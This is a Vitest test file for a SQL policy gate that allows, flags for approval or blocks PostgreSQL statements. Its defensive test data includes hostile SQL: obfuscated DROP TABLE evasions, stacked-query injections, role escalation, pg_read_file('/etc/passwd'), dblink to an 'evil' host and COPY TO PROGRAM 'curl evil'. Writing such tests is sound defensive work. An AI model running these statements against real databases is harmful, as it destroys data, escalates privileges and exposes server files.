import { beforeAll, describe, expect, it } from 'vitest';
import { classify } from '../../src/policy/classify.js';
import { decide, glob, type Decision } from '../../src/policy/decide.js';
import { initParser } from '../../src/policy/parse.js';
import { DEFAULT_POLICY, parsePolicy, type Policy } from '../../src/policy/policy.js';

beforeAll(async () => {
  await initParser();
});

function decision(sql: string, policy: Policy = DEFAULT_POLICY): Decision {
  return decide(policy, classify(sql));
}

/** `action` or `action:rule`. */
function verdict(sql: string, policy?: Policy): string {
  const d = decision(sql, policy);
  return d.rule === undefined ? d.action : `${d.action}:${d.rule}`;
}

describe('default policy: evasions that must be caught', () => {
  const caught: [string, string][] = [
    ['DROP TABLE t', 'block:no-drop'],
    ['/* x */ DROP TABLE t', 'block:no-drop'],
    ['DR/**/OP TABLE t', 'block:parse-error'],
    ['/* /* */ */ DROP TABLE t', 'block:no-drop'],
    ['dRoP tAbLe "T"', 'block:no-drop'],
    ['DROP TABLE U&"d\\0061ta"', 'block:no-drop'],
    ['SELECT * FROM U&"d\\0061ta"; DROP TABLE x', 'block:no-drop'],
    ['SELECT $$x$$; DROP TABLE t', 'block:no-drop'],
    ['SELECT $tag$ $$ ; $tag$; DROP TABLE t', 'block:no-drop'],
    ["SELECT 'a'; DROP TABLE t", 'block:no-drop'],
    ["SELECT E'a\\''; DROP TABLE t", 'block:no-drop'],
    ['SELECT 1\0; DROP TABLE t', 'block:parse-error'],
    ['SELECT 1; DROP TABLE t; SELECT 2', 'block:no-drop'],
    ['COMMIT; DROP TABLE t', 'block:no-drop'],
    ['BEGIN; DROP TABLE t; ROLLBACK', 'block:no-drop'],
    ['WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x', 'approve:unbounded-write'],
    ['WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM x', 'approve:unbounded-write'],
    ['SELECT * FROM (WITH d AS (DELETE FROM t RETURNING 1) SELECT 1) s', 'approve:unbounded-write'],
    ['EXPLAIN ANALYZE DELETE FROM t', 'approve:unbounded-write'],
    ['EXPLAIN ANALYZE TRUNCATE t', 'block:parse-error'],
    ['PREPARE p AS DELETE FROM t', 'approve:unbounded-write'],
    ['PREPARE p AS TRUNCATE t', 'block:parse-error'],
    ['DELETE FROM t', 'approve:unbounded-write'],
    ['UPDATE t SET a = 1', 'approve:unbounded-write'],
    ['DELETE FROM t WHERE true', 'approve:unbounded-write'],
    ['DELETE FROM t WHERE 1=1', 'approve:unbounded-write'],
    ['DELETE FROM t WHERE x OR true', 'approve:unbounded-write'],
    ['DELETE FROM t WHERE NOT false', 'approve:unbounded-write'],
    ["DELETE FROM t WHERE 'a'='a'", 'approve:unbounded-write'],
    ['DELETE FROM t WHERE $1', 'approve:unbounded-write'],
    ['DELETE FROM t WHERE id = id', 'approve:unbounded-write'],
    ['DELETE FROM t WHERE 1 IN (1,2)', 'approve:unbounded-write'],
    ['TRUNCATE t', 'block:no-drop'],
    ['TRUNCATE TABLE a, b CASCADE', 'block:no-drop'],
    ['DROP SCHEMA app CASCADE', 'block:no-drop'],
    ['DROP DATABASE app', 'block:no-drop'],
    ['DROP OWNED BY someone', 'block:no-drop'],
    ['DROP TABLE pg_temp.x CASCADE', 'block:no-drop'],
    ['DROP SCHEMA pg_temp', 'block:no-drop'],
    ['SET ROLE postgres', 'block:privileges'],
    ['SET SESSION AUTHORIZATION postgres', 'block:privileges'],
    ['SET LOCAL ROLE admin', 'block:privileges'],
    ['SET SESSION ROLE "NONE"', 'block:privileges'],
    ["SELECT set_config('role','postgres',false)", 'block:privileges'],
    ["SELECT pg_catalog.set_config('ROLE', 'postgres', true)", 'block:privileges'],
    ["SELECT set_config('role' || '', 'postgres', false)", 'block:privileges'],
    ["SELECT * FROM set_config('session_authorization', 'postgres', false)", 'block:privileges'],
    ["SELECT set_config('app.tenant_id', '42', false)", 'block:privileges'],
    ["UPDATE pg_settings SET setting = 'postgres' WHERE name = 'role'", 'block:privileges'],
    ['SET default_transaction_read_only = off', 'block:privileges'],
    ['BEGIN READ WRITE', 'block:privileges'],
    ['SET TRANSACTION READ WRITE', 'block:privileges'],
    ['SET row_security = off', 'block:privileges'],
    ['SET session_replication_role = replica', 'block:privileges'],
    ['SET standard_conforming_strings = off', 'block:privileges'],
    ["SET client_encoding = 'GBK'", 'block:privileges'],
    ["SELECT pg_read_file('/etc/passwd')", 'block:server-side-io'],
    ["SELECT pg_catalog.pg_read_file('/etc/passwd')", 'block:server-side-io'],
    ["SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')", 'block:server-side-io'],
    ["SELECT * FROM pg_ls_dir('.')", 'block:server-side-io'],
    ["SELECT length(pg_read_binary_file('x'))", 'block:server-side-io'],
    ["SELECT lo_import('/etc/passwd')", 'block:server-side-io'],
    ["SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", 'block:server-side-io'],
    ["SELECT dblink_exec('host=x', 'drop table t')", 'block:server-side-io'],
    ['SELECT pg_terminate_backend(123)', 'block:server-side-io'],
    ["SELECT query_to_xml('select pg_read_file(''/etc/passwd'')', true, false, '')", 'block:server-side-io'],
    ["SELECT query_to_xml('select set_config(''role'', ''x'', false)', true, false, '')", 'block:privileges'],
    ["SELECT ts_stat('select to_tsvector(pg_read_file(''x''))')", 'block:server-side-io'],
    ["SELECT query_to_xml($1, true, false, '')", 'approve:procedural'],
    ["CREATE TEMP TABLE x (a text DEFAULT pg_read_file('/etc/passwd'))", 'block:server-side-io'],
    ["CREATE TABLE x (a text DEFAULT pg_read_file('/etc/passwd'))", 'block:server-side-io'],
    ["COPY t TO PROGRAM 'curl evil'", 'block:server-side-copy'],
    ["COPY t FROM '/etc/passwd'", 'block:server-side-copy'],
    ["COPY (SELECT 1) TO '/tmp/out'", 'block:server-side-copy'],
    ['DO $$ BEGIN DROP TABLE t; END $$', 'approve:procedural'],
    ['CALL p()', 'approve:procedural'],
    ['GRANT SELECT ON t TO public', 'block:privileges'],
    ['GRANT pg_read_server_files TO me', 'block:privileges'],
    ['REVOKE ALL ON t FROM x', 'block:privileges'],
    ['ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO x', 'block:privileges'],
    ['CREATE ROLE x SUPERUSER', 'block:privileges'],
    ['CREATE USER x', 'block:privileges'],
    ['ALTER ROLE x SUPERUSER', 'block:privileges'],
    ['ALTER USER current_user SET role = postgres', 'block:privileges'],
    ['DROP ROLE x', 'block:privileges'],
    ['REASSIGN OWNED BY a TO b', 'block:privileges'],
    ["ALTER SYSTEM SET shared_preload_libraries = 'x'", 'block:server-admin'],
    ["LOAD '/tmp/evil.so'", 'block:server-admin'],
    ['CREATE EXTENSION dblink', 'approve:ddl'],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", 'approve:ddl'],
    ["CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DROP TABLE t'", 'block:no-drop'],
    ['CREATE FUNCTION f() RETURNS int SET role = admin LANGUAGE sql AS $$ SELECT 1 $$', 'block:privileges'],
    ['CREATE TABLE t (a int)', 'approve:ddl'],
    ['ALTER TABLE t DISABLE ROW LEVEL SECURITY', 'approve:ddl'],
    ['CREATE INDEX ON t (a)', 'approve:ddl'],
    ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', 'allow'],
    ['MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE', 'approve:unbounded-write'],
    ['MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE', 'approve:unbounded-write'],
    ['SELECT * INTO newtable FROM t', 'approve:ddl'],
    ['CREATE TABLE x AS SELECT * FROM t', 'approve:ddl'],
    ['CREATE MATERIALIZED VIEW mv AS SELECT 1', 'approve:ddl'],
    ['EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1', 'approve:ddl'],
  ];
  it.each(caught)('%j → %s', (sql, expected) => {
    expect(verdict(sql)).toBe(expected);
  });
});

describe('default policy: what a careless gate blocks but must be allowed', () => {
  it.each([
    "SELECT 'DROP TABLE t'",
    "SELECT 'a'';DROP TABLE t;--'",
    'SELECT 1 /* drop table t */',
    '-- drop table t\nSELECT 1',
    'SELECT $$DROP TABLE t$$',
    'SELECT "drop table t" FROM t',
    'CREATE TEMP TABLE x(a int)',
    'CREATE TEMP TABLE x AS SELECT * FROM t',
    'CREATE TEMP VIEW v AS SELECT 1',
    'DROP TABLE pg_temp.x',
    'SET search_path = app, public',
    'SET statement_timeout = 0',
    'SET default_transaction_read_only = on',
    'SET ROLE NONE',
    'RESET ROLE',
    'RESET ALL',
    'SET SESSION AUTHORIZATION DEFAULT',
    'BEGIN; UPDATE t SET a=1 WHERE id=1; COMMIT',
    'BEGIN READ ONLY',
    'DELETE FROM t WHERE id = $1',
    'DELETE FROM t WHERE created_at < now()',
    'DELETE FROM t WHERE 1=0',
    'UPDATE pgbench_accounts SET abalance = abalance + -5 WHERE aid = 7',
    'SELECT * FROM t FOR UPDATE',
    'EXPLAIN DELETE FROM t',
    'EXPLAIN (ANALYZE false) DELETE FROM t',
    'EXPLAIN SELECT * FROM t',
    'INSERT INTO t VALUES (1)',
    'INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = excluded.a',
    "SELECT set_config('search_path', 'app', false)",
    "SELECT current_setting('role')",
    'SELECT * FROM pg_settings',
    'COPY t TO STDOUT',
    'COPY t FROM STDIN',
    'VACUUM t',
    'SHOW search_path',
    'LISTEN c',
    '',
  ])('%j → allow', (sql) => {
    expect(decision(sql).action).toBe('allow');
  });
});

describe('decide', () => {
  it('takes the most severe decision across statements, naming the statement that decided', () => {
    const d = decision('DELETE FROM t; DROP TABLE u; SELECT 1');
    expect(d).toMatchObject({
      action: 'block',
      rule: 'no-drop',
      statement: { statement: 'drop', text: 'DROP TABLE u' },
    });
  });

  it('explains itself in a short sentence', () => {
    expect(decision('DROP TABLE t').reason).toBe('DROP TABLE is blocked by rule no-drop');
    expect(decision('UPDATE t SET a = 1').reason).toBe(
      'UPDATE without a WHERE clause needs approval (rule unbounded-write)',
    );
    expect(decision('DELETE FROM t WHERE 1 = 1').reason).toBe(
      'DELETE with a WHERE clause that does not limit the rows needs approval (rule unbounded-write)',
    );
    expect(decision('EXPLAIN ANALYZE DELETE FROM t').reason).toBe(
      'DELETE without a WHERE clause (inside another statement) needs approval (rule unbounded-write)',
    );
    expect(decision("SELECT pg_read_file('x')").reason).toBe(
      'SELECT calling pg_read_file() is blocked by rule server-side-io',
    );
    expect(decision('SET ROLE admin').reason).toBe('SET changing role is blocked by rule privileges');
    expect(decision('DR/**/OP TABLE t').reason).toBe(
      'SQL that cannot be parsed (syntax error at or near "DR") is blocked by rule parse-error',
    );
    expect(decision('SELECT 1').reason).toBe('SELECT: no rule matched, allowed');
  });

  it('does not repeat literal values in the reason', () => {
    expect(decision("DELETE FROM t WHERE 'secret-token' = 'secret-token'").reason).not.toContain('secret');
  });

  it('passes on cacheability', () => {
    expect(decision('SELECT 1').cacheable).toBe(true);
    expect(decision('DELETE FROM t WHERE 1 = 1').cacheable).toBe(false);
    expect(decision('DR/**/OP').cacheable).toBe(false);
  });

  it('uses on_parse_error for unparseable text', () => {
    const policy = parsePolicy('on_parse_error: approve\n', 'p.yaml');
    expect(verdict('DR/**/OP TABLE t', policy)).toBe('approve:parse-error');
  });

  it('in audit-only mode allows everything but says what enforce would have done', () => {
    const policy = parsePolicy('mode: audit-only\n', 'p.yaml');
    expect(decision('DROP TABLE t', policy)).toMatchObject({
      action: 'allow',
      wouldBe: 'block',
      rule: 'no-drop',
      reason: 'DROP TABLE is blocked by rule no-drop',
    });
    expect(decision('DELETE FROM t', policy)).toMatchObject({ action: 'allow', wouldBe: 'approve' });
    expect(decision('DR/**/OP', policy)).toMatchObject({
      action: 'allow',
      wouldBe: 'block',
      rule: 'parse-error',
    });
    expect(decision('SELECT 1', policy).wouldBe).toBeUndefined();
  });

  it('lets the first matching rule win, and allows when none matches', () => {
    const policy = parsePolicy(
      `rules:
  - { name: read-users, match: { statements: [select], relations: [public.users] }, action: allow }
  - { name: no-users, match: { relations: [users] }, action: block }
  - { name: writes, match: { categories: [write] }, action: approve }
`,
      'p.yaml',
    );
    expect(verdict('SELECT * FROM public.users', policy)).toBe('allow:read-users');
    expect(verdict('UPDATE users SET a = 1 WHERE id = 1', policy)).toBe('block:no-users');
    expect(verdict('INSERT INTO orders VALUES (1)', policy)).toBe('approve:writes');
    expect(verdict('DROP TABLE orders', policy)).toBe('allow');
  });

  it('matches block rules broadly: unqualified names, any schema, any case', () => {
    const policy = parsePolicy(
      'rules:\n  - { name: secrets, match: { relations: [vault.secrets] }, action: block }\n',
      'p.yaml',
    );
    expect(verdict('SELECT * FROM secrets', policy)).toBe('block:secrets');
    expect(verdict('SELECT * FROM "SECRETS"', policy)).toBe('block:secrets');
    expect(verdict('SELECT * FROM vault.secrets', policy)).toBe('block:secrets');
    expect(verdict('SELECT * FROM other.secrets', policy)).toBe('allow');
    expect(verdict('SELECT * FROM x WHERE id IN (SELECT id FROM secrets)', policy)).toBe('block:secrets');
  });

  it('matches allow rules strictly: every relation/function must be covered', () => {
    const policy = parsePolicy(
      `rules:
  - { name: scratch, match: { relations: ["scratch.*"] }, action: allow }
  - { name: rest, match: {}, action: block }
`,
      'p.yaml',
    );
    expect(verdict('DELETE FROM scratch.tmp', policy)).toBe('allow:scratch');
    expect(verdict('DELETE FROM prod.users WHERE id IN (SELECT id FROM scratch.tmp)', policy)).toBe(
      'block:rest',
    );
    expect(verdict('DELETE FROM tmp', policy)).toBe('block:rest');
    expect(verdict('SELECT 1', policy)).toBe('block:rest');
  });

  it('matches settings, unbounded and functions criteria', () => {
    const policy = parsePolicy(
      `rules:
  - { name: tenant, match: { settings: ["app.*"] }, action: approve }
  - { name: bounded-deletes, match: { statements: [delete], unbounded: false }, action: allow }
  - { name: no-sleep, match: { functions: [pg_sleep] }, action: block }
`,
      'p.yaml',
    );
    expect(verdict('SET app.tenant = 1', policy)).toBe('approve:tenant');
    expect(verdict("SELECT set_config($1, '1', false)", policy)).toBe('approve:tenant');
    expect(verdict('DELETE FROM t WHERE id = 1', policy)).toBe('allow:bounded-deletes');
    expect(verdict('DELETE FROM t', policy)).toBe('allow');
    expect(verdict('SELECT pg_catalog.pg_sleep(10)', policy)).toBe('block:no-sleep');
  });

  it('glob matches * and ?', () => {
    expect(glob('public.*', 'public.users', false)).toBe(true);
    expect(glob('pg_ls_*', 'pg_ls_dir', false)).toBe(true);
    expect(glob('a?c', 'abc', false)).toBe(true);
    expect(glob('a?c', 'abbc', false)).toBe(false);
    expect(glob('*x*y', 'axbycy', false)).toBe(true);
    expect(glob('Users', 'users', false)).toBe(false);
    expect(glob('Users', 'users', true)).toBe(true);
  });
});
